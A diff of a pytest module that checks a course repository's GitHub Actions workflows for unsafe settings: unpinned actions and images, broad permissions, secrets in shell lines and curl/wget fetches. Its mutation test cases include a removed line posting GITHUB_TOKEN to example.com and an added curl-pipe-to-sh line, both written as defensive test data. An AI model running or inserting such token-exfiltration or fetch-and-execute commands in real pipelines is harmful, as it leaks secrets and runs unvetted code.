@@ -7,11 +7,13 @@ import yaml
 
 import course
 
-WORKFLOWS = sorted((course.ROOT / ".github" / "workflows").glob("*.yml"))
+WORKFLOWS = sorted((course.ROOT / ".github" / "workflows").glob("*.y*ml"))
 PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")
+PINNED_IMAGE = re.compile(r".+@sha256:[0-9a-f]{64}")
 MAY_WRITE = {("publish.yml", "deploy"): {"pages": "write", "id-token": "write"}}
 # Text that others choose, or that must stay secret, has no place in a line of a shell.
 NOT_IN_A_SHELL = re.compile(r"\$\{\{|secrets\.|GITHUB_TOKEN")
+FETCHES = re.compile(r"\b(curl|wget)\b")  # what it fetches is pinned by nothing
 
 
 def complaints(name, text):
@@ -29,7 +31,11 @@ def complaints(name, text):
             found.append(f"{job} has permissions {steps.get('permissions')}")
         if "timeout-minutes" not in steps:
             found.append(f"{job} has no limit of time")
-        for step in steps["steps"]:
+        for container in [steps.get("container"), *steps.get("services", {}).values()]:
+            image = container["image"] if isinstance(container, dict) else container
+            if image and not PINNED_IMAGE.fullmatch(image):
+                found.append(f"{image} is not pinned to a digest")
+        for step in [steps, *steps.get("steps", [])]:  # a job may use a workflow, too
             used = step.get("uses")
             if used and not PINNED.fullmatch(used):
                 found.append(f"{used} is not pinned to a commit")
@@ -39,12 +45,20 @@ def complaints(name, text):
                 found.append("the checkout keeps its credentials")
             if NOT_IN_A_SHELL.search(step.get("run", "")):
                 found.append(f"{step['run']!r} takes what others choose into a shell")
+            if FETCHES.search(step.get("run", "")):
+                found.append(f"{step['run']!r} fetches")
     return found
 
 
 @pytest.mark.parametrize("path", WORKFLOWS, ids=course.relative)
 def test_workflow_is_safe(path):
     assert complaints(path.name, path.read_text(encoding="utf-8")) == []
+
+
+def test_nothing_but_workflows_acts():
+    """An action of our own would be looked at by nobody."""
+    files = [path for path in (course.ROOT / ".github").rglob("*") if path.is_file()]
+    assert sorted(files) == WORKFLOWS
 
 
 @pytest.mark.parametrize(
@@ -59,13 +73,30 @@ def test_workflow_is_safe(path):
         (" # v4.0.5", ""),
         ("persist-credentials: false", "persist-credentials: true"),
         ("run: make site", "run: echo ${{ github.event.head_commit.message }}; make site"),
-        ("run: make site", "run: curl -d $GITHUB_TOKEN example.com; make site"),
+        ("run: make site", "run: env GITHUB_TOKEN=$TOKEN make site"),
+        ("run: make site", "run: curl -s https://example.com/install | sh; make site"),
+        ("    timeout-minutes: 30\n", "    timeout-minutes: 30\n    container: python:3\n"),
+        ("    timeout-minutes: 30\n", "    timeout-minutes: 30\n    container: {image: python}\n"),
+        (
+            "    timeout-minutes: 30\n",
+            "    timeout-minutes: 30\n    services: {web: {image: nginx}}\n",
+        ),
+        ("    needs: build\n", "    uses: someone/else/.github/workflows/a.yml@main\n"),
     ],
 )
 def test_an_unsafe_workflow_is_noticed(right, wrong):
     text = (course.ROOT / ".github" / "workflows" / "publish.yml").read_text(encoding="utf-8")
     assert right in text
     assert complaints("publish.yml", text.replace(right, wrong, 1))
+
+
+def test_the_notebooks_run_without_a_network_once_a_week():
+    text = (course.ROOT / ".github" / "workflows" / "test.yml").read_text(encoding="utf-8")
+    job = yaml.safe_load(text)["jobs"]["offline"]
+    assert job["steps"][-1]["run"] == "make test-offline"
+    assert (
+        job["if"] == "github.event_name == 'schedule' || github.event_name == 'workflow_dispatch'"
+    )
 
 
 def test_what_is_published_is_built():
